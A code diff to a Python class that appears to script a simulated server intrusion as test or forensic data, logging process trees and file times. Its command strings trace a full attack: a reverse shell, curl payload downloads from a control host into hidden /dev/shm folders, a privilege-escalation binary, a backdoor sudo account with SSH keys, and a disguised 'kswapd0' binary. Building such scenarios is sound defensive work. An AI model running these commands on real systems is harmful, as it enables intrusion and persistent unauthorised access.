@@ -512,9 +512,8 @@ class Story:
     def _RunIntrusion(self):
         """Runs what the intruder does through the shop, until he has an account."""
         pool = self._php
-        for command_line, start in (("id", "02:07:13"), ("uname -a", "02:07:31")):
-            shell = self._RunBriefly(pool, f"sh -c {command_line:s}", start, 0.2)
-            self._RunBriefly(shell, command_line, shell.start_time + 0.1, 0.05)
+        shell = self._RunBriefly(pool, "sh -c id", "02:07:13", 0.2)
+        self._RunBriefly(shell, "id", "02:07:13.1", 0.05)
 
         # Port 8080 is blocked, which curl tells with this exit code.
         command_line = f"curl -m 5 http://{_CONTROL_ADDRESS:s}:8080/"
@@ -532,7 +531,6 @@ class Story:
             shell, "bash", f"bash -c {reverse:s}", "02:08:20.1", "02:53:41.2"
         )
         shell = self._Run(shell, "bash", "bash -i", "02:08:20.2", "02:53:41.1")
-        self._RunBriefly(shell, "id", "02:08:52")
         python = self._Run(
             shell,
             "python3",
@@ -543,20 +541,17 @@ class Story:
         )
 
         shell = self._Run(python, "bash", "/bin/bash", "02:09:05.2", "02:53:39.9")
-        self._RunBriefly(shell, "ls -la", "02:09:21")
-        self._RunBriefly(shell, "cat /etc/passwd", "02:09:34")
         self._RunBriefly(shell, "mkdir /dev/shm/.x", "02:09:48")
         self._Run(
             shell,
             "curl",
-            f"curl -fsSL http://{_CONTROL_ADDRESS:s}/l.tar.gz -o /dev/shm/.x/l.tar.gz",
+            f"curl -fsSL http://{_CONTROL_ADDRESS:s}/l.tar -o /dev/shm/.x/l.tar",
             "02:09:55",
             "02:10:09.4",
             cpu=0.02,
             resident_size=12200,
         )
-        archiver = self._RunBriefly(shell, "tar xzf l.tar.gz", "02:10:20", 0.4)
-        self._RunBriefly(archiver, "gzip -d", "02:10:20.1")
+        self._RunBriefly(shell, "tar xf l.tar", "02:10:20", 0.4)
         self._RunBriefly(shell, "./lpe", "02:11:02", 1.1, status=11)
 
         # The second attempt takes longer, and succeeds.
@@ -569,7 +564,6 @@ class Story:
                 {"command_line": "/bin/sh", "name": "sh", "user": _ROOT},
             )
         )
-        self._RunBriefly(exploit, "id", "02:27:10", user=_ROOT)
         useradd = self._RunBriefly(
             exploit,
             "useradd -m -s /bin/bash -G sudo support",
@@ -592,7 +586,6 @@ class Story:
         for command_line, start in (
             ("mkdir /home/support/.ssh", "02:33:31"),
             ("tee /home/support/.ssh/authorized_keys", "02:33:52"),
-            ("chown -R support:support /home/support/.ssh", "02:34:10"),
             ("tee /etc/sudoers.d/support", "02:34:40"),
         ):
             self._RunBriefly(exploit, command_line, start, user=_ROOT)
@@ -654,7 +647,6 @@ class Story:
         )
         path = "/dev/shm/.s/kswapd0"
         commands = (
-            ("02:39:30", "id"),
             ("02:39:41", "w"),
             ("02:40:52", "mkdir /dev/shm/.s"),
             ("02:41:10", f"curl -fsSL http://{_CONTROL_ADDRESS:s}/kswapd0 -o {path:s}"),
@@ -1034,7 +1026,7 @@ class Story:
                 mode=0o600,
                 user=_SUPPORT,
             ),
-            File("home/support/.ssh", "02:34:10", mode=0o755, user=_SUPPORT),
+            File("home/support/.ssh", "02:33:31", mode=0o755, user=_SUPPORT),
             File("home/support/.ssh/authorized_keys", "02:33:52", key, user=_SUPPORT),
             File("root", "03:41:41", mode=0o700),
             File("usr", installed, mode=0o755),
